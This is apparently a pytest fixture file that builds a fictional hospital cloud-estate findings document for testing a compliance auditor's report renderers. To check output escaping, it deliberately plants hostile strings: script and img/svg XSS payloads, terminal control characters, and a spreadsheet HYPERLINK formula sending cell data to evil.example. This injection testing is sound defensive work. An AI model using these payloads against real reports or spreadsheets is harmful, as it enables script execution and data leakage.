"""One fixed FindingsDoc that every renderer test and golden file uses.

A small hospital estate in FR/DE/US/GB with everything a report must show: a replica outside the zone,
public access, a foreign account, a waived finding, an unknown finding and a coverage gap — and
cloud-provided strings that try to break every output format.
"""

from __future__ import annotations

from dataclasses import replace

import pytest

from auditor.model.findings import Control, Finding, FindingsDoc, Run, Severity, Status, WaiverRef
from auditor.model.inventory import (
    AccessGrant,
    Classification,
    CoverageGap,
    DataLocation,
    KeyManager,
    KeyRef,
    LocationRole,
    Network,
    Permission,
    PrincipalKind,
    Relation,
    Resource,
    Zone,
)
from auditor.model.vocab import Via
from auditor.render import RenderOptions, TrendPoint

SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror="window.__pwned=1;alert(1)">'
FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"click me")'
MDLINK = "[x](http://evil.example) ]]> </script><svg onload=alert(1)>"
HOSTILE = (SCRIPT, IMG, FORMULA, MDLINK)

HEALTH_TAG = Classification("health", True, "tag data-classification=phi")
HEALTH_KIND = Classification("health", True, "kind health-api")


def _t(en: str, fr: str | None = None) -> dict[str, str]:
    return {"en": en, "fr": fr or en} if fr else {"en": en}


def _resources() -> tuple[Resource, ...]:
    paris = Resource(
        id="arn:aws:s3:::patients-records-paris", provider="aws", account="111122223333", service="s3",
        kind="object-store", native_type="AWS::S3::Bucket", name="patients-records-paris", region="eu-west-3",
        organization="o-hospital", tags={"data-classification": "phi", "owner": SCRIPT},
        locations=(
            DataLocation("eu-west-3", LocationRole.PRIMARY, country="FR", zone=Zone.EU),
            DataLocation("us-east-1", LocationRole.REPLICA, via=Via.S3_REPLICATION,
                         target="arn:aws:s3:::patients-records-virginia", account="111122223333",
                         country="US", zone=Zone.THIRD),
        ),
        encryption=KeyRef(KeyManager.CUSTOMER, key_id="arn:aws:kms:eu-west-3:111122223333:key/1234",
                          region="eu-west-3", origin="AWS_KMS", zone=Zone.EU, country="FR"),
        access=(
            AccessGrant("*", PrincipalKind.PUBLIC, Permission.READ, "bucket-policy", relation=Relation.PUBLIC),
            AccessGrant("arn:aws:iam::111122223333:role/etl", PrincipalKind.ROLE, Permission.WRITE, "iam",
                        home="111122223333", relation=Relation.INTERNAL),
        ),
        network=Network(public_endpoint=True), logging=True, classification=HEALTH_TAG,
    )
    berlin = Resource(
        id="arn:aws:rds:eu-central-1:111122223333:db:" + "lab-results", provider="aws", account="111122223333",
        service="rds", kind="database", native_type="AWS::RDS::DBInstance", name=SCRIPT, region="eu-central-1",
        tags={"data-classification": "phi"},
        locations=(
            DataLocation("eu-central-1", LocationRole.PRIMARY, country="DE", zone=Zone.EU),
            DataLocation("eu-west-2", LocationRole.BACKUP, via=Via.BACKUP_COPY_ACTION, country="GB",
                         zone=Zone.ADEQUACY),
        ),
        encryption=KeyRef(KeyManager.CUSTOMER, key_id="arn:aws:kms:us-east-1:111122223333:key/mrk-9",
                          region="us-east-1", origin="AWS_KMS", zone=Zone.THIRD, country="US"),
        access=(AccessGrant("arn:aws:iam::999988887777:root", PrincipalKind.ACCOUNT, Permission.READ,
                            "snapshot-share", home="999988887777", relation=Relation.EXTERNAL),),
        logging=False, classification=HEALTH_TAG,
    )
    azure = Resource(
        id="/subscriptions/0000-1111/resourceGroups/rg-hdx/providers/Microsoft.Storage/storageAccounts/imgstore",
        provider="azure", account="0000-1111", service="storage", kind="object-store",
        native_type="Microsoft.Storage/storageAccounts", name=IMG, region="francecentral", organization="tenant-a",
        locations=(
            DataLocation("francecentral", LocationRole.PRIMARY, country="FR", zone=Zone.EU),
            DataLocation("francesouth", LocationRole.GEO_SECONDARY, via=Via.STORAGE_GEO_REPLICATION,
                         via_detail="GRS", country="FR", zone=Zone.EU),
        ),
        encryption=KeyRef(KeyManager.PROVIDER, origin="Microsoft.Storage"),
        access=(AccessGrant("tenant-partner", PrincipalKind.FOREIGN_TENANT_APP, Permission.READ, "role-assignment",
                            home="tenant-partner", relation=Relation.TRUSTED),),
        logging=False, classification=Classification("health", True, "name *-imaging-*"),
    )
    healthlake = Resource(
        id="arn:aws:healthlake:us-east-1:111122223333:datastore/fhir/abc", provider="aws", account="111122223333",
        service="healthlake", kind="health-api", native_type="AWS::HealthLake::FHIRDatastore", name=FORMULA,
        region="us-east-1",
        locations=(DataLocation("us-east-1", LocationRole.PRIMARY, country="US", zone=Zone.THIRD),),
        encryption=KeyRef(KeyManager.PROVIDER), classification=HEALTH_KIND,
    )
    mystery = Resource(
        id="arn:aws:s3:::mystery", provider="aws", account="111122223333", service="s3", kind="object-store",
        native_type="AWS::S3::Bucket", name=MDLINK, region="xx-mars-1",
        locations=(DataLocation("xx-mars-1", LocationRole.PRIMARY, zone=Zone.UNKNOWN),),
        classification=HEALTH_TAG,
    )
    logs = Resource(
        id="arn:aws:s3:::app-logs", provider="aws", account="111122223333", service="s3", kind="object-store",
        native_type="AWS::S3::Bucket", name="app-logs", region="eu-west-1",
        locations=(DataLocation("eu-west-1", LocationRole.PRIMARY, country="IE", zone=Zone.EU),),
        classification=Classification("unclassified", False, "no rule matched"),
    )
    return (paris, berlin, azure, healthlake, mystery, logs)


RES_FW = ("GDPR:Art.44", "GDPR:Art.46", "HDS:5.2", "SecNumCloud:19.6")


def _findings(res: tuple[Resource, ...]) -> tuple[Finding, ...]:
    paris, berlin, azure, healthlake, mystery, logs = res
    rem_res = _t("Remove the replica outside the EEA, or move it to an EEA region.",
                 "Supprimez la réplique hors de l'EEE, ou déplacez-la dans une région de l'EEE.")

    def f(policy: str, r: Resource, sev: Severity, status: Status, title: dict[str, str], msg: dict[str, str],
          **kw: object) -> Finding:
        loc = r.locations[0] if r.locations else None
        place: dict[str, object] = {"region": r.region, "country": loc.country if loc else None,
                                    "zone": loc.zone.value if loc and loc.zone else None}
        place.update(kw)
        return Finding(policy_id=policy, title=title, severity=sev, status=status, resource_id=r.id,
                       provider=r.provider, account=r.account, message=msg, **place)  # type: ignore[arg-type]

    t_primary = _t("Health data stored outside the allowed zone", "Données de santé stockées hors de la zone autorisée")
    t_copy = _t("Health data copied outside the allowed zone", "Données de santé copiées hors de la zone autorisée")
    t_public = _t("Health data publicly readable", "Données de santé lisibles publiquement")
    return (
        f("RES-001", healthlake, Severity.CRITICAL, Status.FAIL, t_primary,
          _t(f"{FORMULA} lives in us-east-1 (US, third country)", f"{FORMULA} est stocké dans us-east-1 (US)"),
          remediation=_t("Move the datastore to an EEA region.", "Déplacez l'entrepôt dans une région de l'EEE."),
          frameworks=RES_FW, location_key="us-east-1"),
        f("RES-001", paris, Severity.CRITICAL, Status.PASS, t_primary, _t("primary in eu-west-3 (FR)"),
          frameworks=RES_FW),
        f("RES-001", berlin, Severity.CRITICAL, Status.PASS, t_primary, _t("primary in eu-central-1 (DE)"),
          frameworks=RES_FW),
        f("RES-001", azure, Severity.CRITICAL, Status.PASS, t_primary, _t("primary in francecentral (FR)"),
          frameworks=RES_FW),
        f("RES-002", paris, Severity.CRITICAL, Status.FAIL, t_copy,
          _t("patients-records-paris is replicated to us-east-1 (US)",
             "patients-records-paris est répliqué vers us-east-1 (US)"),
          remediation=rem_res, frameworks=RES_FW, location_key="us-east-1",
          evidence=("s3:GetBucketReplication",)),
        f("RES-002", berlin, Severity.CRITICAL, Status.FAIL, t_copy,
          _t(f"{SCRIPT} is backed up to eu-west-2 (GB, adequacy, outside the EEA)",
             f"{SCRIPT} est sauvegardé dans eu-west-2 (GB, hors EEE)"),
          remediation=rem_res, frameworks=RES_FW, location_key="eu-west-2", region="eu-west-2", country="GB",
          zone="adequacy"),
        f("RES-003", mystery, Severity.HIGH, Status.UNKNOWN,
          _t("Location of health data cannot be resolved", "Localisation des données de santé indéterminée"),
          _t(f"region xx-mars-1 of {MDLINK} is not in the catalog"),
          remediation=_t("Check the region code; add it to the catalog if it is real."),
          frameworks=("GDPR:Art.44",), location_key="xx-mars-1"),
        f("ACC-001", paris, Severity.CRITICAL, Status.FAIL, t_public,
          _t("bucket policy grants s3:GetObject to * (anonymous)", "la politique du compartiment autorise * (anonyme)"),
          remediation=_t("Enable Block Public Access and remove the public statement.",
                         "Activez Block Public Access et retirez l'instruction publique."),
          frameworks=("GDPR:Art.32", "HDS:5.4"), location_key="*"),
        f("ACC-002", berlin, Severity.HIGH, Status.FAIL,
          _t("Health data reachable from a foreign account", "Données de santé accessibles depuis un compte étranger"),
          _t(f"snapshot of {SCRIPT} shared with account 999988887777 {IMG}"),
          remediation=_t("Stop sharing the snapshot, or add the account to the trusted list."),
          frameworks=("GDPR:Art.28", "GDPR:Art.32"), location_key="999988887777"),
        f("KEY-001", berlin, Severity.HIGH, Status.WAIVED,
          _t("Encryption key outside the allowed zone", "Clé de chiffrement hors de la zone autorisée"),
          _t("the KMS key lives in us-east-1 (US)"),
          remediation=_t("Use a key in an EEA region."), frameworks=("SecNumCloud:19.6",), location_key="us-east-1",
          waiver=WaiverRef("W-7", f"Migration planned for Q2 {IMG}", "dpo@hospital.example", "2026-06-30")),
        f("LOG-001", azure, Severity.MEDIUM, Status.FAIL,
          _t("Health data store without access logging", "Stockage de données de santé sans journalisation"),
          _t("diagnostic settings send no read logs"), remediation=_t("Enable StorageRead diagnostic logs."),
          frameworks=("HDS:5.6",)),
        f("CLS-001", logs, Severity.INFO, Status.FAIL,
          _t("Data store with no classification", "Stockage sans classification"),
          _t("app-logs carries no classification tag\x0b\x1b[31m\x00"),
          remediation=_t("Tag the bucket with data-classification."),
          frameworks=()),
        f("COV-001", mystery, Severity.HIGH, Status.UNKNOWN,
          _t("Part of the estate could not be read", "Une partie du parc n'a pas pu être lue"),
          _t("rds in ap-south-1: AccessDenied"), frameworks=(), category="coverage", location_key="ap-south-1"),
    )


CONTROLS = (
    Control("GDPR", "Art.44", _t("General principle for transfers", "Principe général des transferts"),
            "Regulation (EU) 2016/679, Art. 44", _t("GDPR", "RGPD"),
            "https://eur-lex.europa.eu/eli/reg/2016/679/oj", ("RES-001", "RES-002", "RES-003"),
            reference_text=_t("Regulation (EU) 2016/679, Art. 44", "Règlement (UE) 2016/679, art. 44")),
    Control("GDPR", "Art.28", _t("Processor", "Sous-traitant"), "Regulation (EU) 2016/679, Art. 28",
            _t("GDPR", "RGPD"), policies=("ACC-002",),
            reference_text=_t("Regulation (EU) 2016/679, Art. 28", "Règlement (UE) 2016/679, art. 28")),
    Control("GDPR", "Art.32", _t("Security of processing", "Sécurité du traitement"),
            "Regulation (EU) 2016/679, Art. 32", _t("GDPR", "RGPD"), policies=("ACC-001", "ACC-002"),
            reference_text=_t("Regulation (EU) 2016/679, Art. 32", "Règlement (UE) 2016/679, art. 32")),
    Control("HDS", "5.2", _t("Hosting location", "Lieu d'hébergement"), "HDS v2 requirement 5.2", _t("HDS"),
            policies=("RES-001",), reference_text=_t("HDS v2 requirement 5.2", "HDS v2, exigence 5.2")),
    Control("HDS", "contract", _t("Contract with the hosting provider", "Contrat avec l'hébergeur"),
            "Code de la santé publique, art. R.1111-11", _t("HDS"), manual=True),
    Control("SecNumCloud", "19.6", _t("Protection against extra-European law",
                                      "Protection contre les droits extra-européens"), "SecNumCloud 3.2 §19.6",
            _t("SecNumCloud"), policies=("KEY-001",)),
    Control("SecNumCloud", "19.2", _t("Staff located in the EU", "Personnel situé dans l'UE"),
            "SecNumCloud 3.2 §19.2", _t("SecNumCloud"), out_of_scope="needs HR evidence, not readable from a cloud API",
            out_of_scope_text=_t("needs HR evidence, not readable from a cloud API",
                                 "demande des preuves RH, illisibles par une API du cloud")),
)


def build_doc() -> FindingsDoc:
    res = _resources()
    run = Run(
        tool_version="0.1.0", profile="hds", policy_digest="sha256:" + "ab" * 32,
        started="2026-01-15T02:00:00Z", finished="2026-01-15T02:03:10Z", providers=("aws", "azure"),
        accounts=("111122223333", "0000-1111"), regions=("eu-west-3", "eu-central-1", "francecentral", "us-east-1"),
        source="aws+azure", fail_on="high", allowed_zones=("eu", "eea"),
        notices=("waiver W-3 expired on 2025-12-31 and no longer applies",
                 f"profile hds raises PROV-001 from info to medium {SCRIPT}"),
        run_id="run-0042",
    )
    gap = CoverageGap("aws", "rds", "access-denied", f"AccessDenied: not authorized {IMG}", account="111122223333",
                      region="ap-south-1")
    # passes are kept compactly (policy -> resources) next to the few kept as findings above
    passed = {"LOG-001": (res[0].id,), "RES-002": (res[2].id,)}
    return FindingsDoc(run, res, (*_findings(res), _unclassified_group(res[-1])), (gap,), CONTROLS, passed)


def _unclassified_group(logs: Resource) -> Finding:
    """Unclassified snapshots as the pipeline reports them: one CLS-001 per account/service/region listing the
    ids (results/unclassified.py), one of them hostile."""
    from auditor.results.unclassified import fold

    snaps = tuple(replace(logs, id=f"arn:aws:ec2:eu-west-1:111122223333:snapshot/{sid}", service="ec2",
                          kind="snapshot", native_type="AWS::EC2::Snapshot", name=sid)  # type: ignore[arg-type]
                  for sid in ("snap-0a1", "snap-0b2", f"snap-{SCRIPT}"))
    cls = next(f for f in _findings(_resources()) if f.policy_id == "CLS-001")
    mini = FindingsDoc(Run("0.1.0", "hds", "sha256:x", "t", "t"), snaps,
                       tuple(replace(cls, resource_id=s.id, message=_t(f"{s.name} carries no classification"))
                             for s in snaps), ())
    [group] = fold(mini).findings
    return group


def build_previous(doc: FindingsDoc) -> FindingsDoc:
    """The run before: ACC-001 was not open yet; an old finding has since been resolved."""
    kept = tuple(f for f in doc.findings if f.policy_id != "ACC-001")
    old = replace(doc.findings[0], policy_id="RES-002", resource_id="arn:aws:s3:::old-archive",
                  title=_t("Health data copied outside the allowed zone"), location_key="ap-southeast-2")
    run = replace(doc.run, started="2026-01-14T02:00:00Z", finished="2026-01-14T02:03:00Z", run_id="run-0041")
    return replace(doc, run=run, findings=(*kept, old))


@pytest.fixture(scope="session")
def doc() -> FindingsDoc:
    return build_doc()


def build_options(doc: FindingsDoc, lang: str = "en") -> RenderOptions:
    return RenderOptions(
        lang=lang, findings_sha256="e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        previous=build_previous(doc),
        trend=(TrendPoint("2026-01-12", {"critical": 4, "high": 3, "medium": 1}, 2),
               TrendPoint("2026-01-13", {"critical": 3, "high": 2, "medium": 1}, 1),
               TrendPoint("2026-01-14", {"critical": 3, "high": 1, "medium": 1}, 2)),
        report_link="https://ci.example/artifacts/report.html", generated_at="2026-01-15T02:05:00Z",
    )


@pytest.fixture(scope="session")
def options(doc: FindingsDoc) -> RenderOptions:
    return build_options(doc)


@pytest.fixture(scope="session")
def make_options() -> object:
    """``make_options(doc, lang)``: the fixed render options (previous run, trend, link, digest)."""
    return build_options


@pytest.fixture(scope="session")
def hostile() -> tuple[str, ...]:
    """The cloud-provided strings of the fixture that try to break out of each format."""
    return HOSTILE
